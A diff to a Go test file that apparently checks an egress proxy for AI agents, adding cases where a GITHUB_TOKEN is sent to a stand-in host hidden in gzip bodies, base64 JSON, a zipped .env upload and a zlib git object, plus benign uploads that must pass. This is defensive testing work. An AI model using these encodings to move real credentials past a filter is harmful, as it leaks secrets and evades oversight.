@@ -1,6 +1,11 @@
 package egress
 
 import (
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"compress/zlib"
+	"encoding/base64"
 	"encoding/hex"
 	"os"
 	"path/filepath"
@@ -23,6 +28,12 @@ func outsideAttacks() []outsideAttack {
 		// header name, and both reach the upstream as sent.
 		{"a header's name", F, "GET / HTTP/1.1\nHost: " + F + "\nX-D-" + h + ": 1\n\n"},
 		{"the method", F, h + " / HTTP/1.1\nHost: " + F + "\n\n"},
+		// Compressed with no Content-Encoding saying so.
+		{"a gzip body", F, post("/up", F, "application/octet-stream", string(gz([]byte("GITHUB_TOKEN="+tok))))},
+		{"gzip as base64 in JSON", F, post("/up", F, "application/json", `{"blob":"`+base64.StdEncoding.EncodeToString(gz([]byte(tok)))+`"}`)},
+		{"a zip file uploaded", F, post("/up", F, "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.zip\"\r\nContent-Type: application/zip\r\n\r\n"+
+			string(zipped(".env", []byte("GITHUB_TOKEN="+tok+"\n")))+"\r\n--XX--\r\n")},
+		{"a git loose object (zlib)", F, post("/up", F, "application/x-git-loose-object", string(zlibbed([]byte("blob 41\x00"+tok))))},
 	}
 }
 
@@ -58,4 +69,51 @@ func TestOutsideEchoIsScrubbed(t *testing.T) {
 			t.Errorf("%s: status %d, the agent read %q", p, st, body)
 		}
 	}
+}
+
+func zlibbed(b []byte) []byte {
+	var buf bytes.Buffer
+	w := zlib.NewWriter(&buf)
+	w.Write(b)
+	w.Close()
+	return buf.Bytes()
+}
+
+// TestOutsideBenignPasses: what an agent sends every day, of the kinds the
+// attacks above hide in, reaches the upstream.
+func TestOutsideBenignPasses(t *testing.T) {
+	o := newOutside(t)
+	const F = "files.example.test"
+	code := []byte("package main\n\nimport \"fmt\"\n\nfunc main() {\n\tfmt.Println(\"hello, world\")\n}\n")
+	for _, c := range []outsideAttack{
+		{"a gzip of code", F, post("/up", F, "application/gzip", string(gz(code)))},
+		{"a zip of code", F, post("/up", F, "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"src.zip\"\r\n\r\n"+
+			string(zipped("main.go", code))+"\r\n--XX--\r\n")},
+		{"gzip as base64 in JSON", F, post("/up", F, "application/json", `{"blob":"`+base64.StdEncoding.EncodeToString(gz(code))+`"}`)},
+		{"headers a CDN client sends", F, "GET /v1/x HTTP/1.1\nHost: " + F + "\nX-Amz-Content-Sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\nX-Request-Id: 6f1c2b1e-9a43-4c1e-8f6e-2d7b4c9a1e55\nIf-None-Match: W/\"5e8f-1a2b3c\"\n\n"},
+		{"a PROPFIND", F, "PROPFIND /dav/ HTTP/1.1\nHost: " + F + "\nDepth: 1\n\n"},
+		{"text that starts like zlib", F, post("/up", F, "text/plain", "x^2 + y^2 = r^2, and more text that follows it")},
+	} {
+		before := o.up.count()
+		if st, body := o.send(t, c.host, c.raw); st != 200 || o.up.count() != before+1 {
+			t.Errorf("%s: blocked: status %d: %.200s", c.name, st, body)
+		}
+	}
+}
+
+func gz(b []byte) []byte {
+	var buf bytes.Buffer
+	w := gzip.NewWriter(&buf)
+	w.Write(b)
+	w.Close()
+	return buf.Bytes()
+}
+
+func zipped(name string, b []byte) []byte {
+	var buf bytes.Buffer
+	w := zip.NewWriter(&buf)
+	f, _ := w.Create(name)
+	f.Write(b)
+	w.Close()
+	return buf.Bytes()
 }
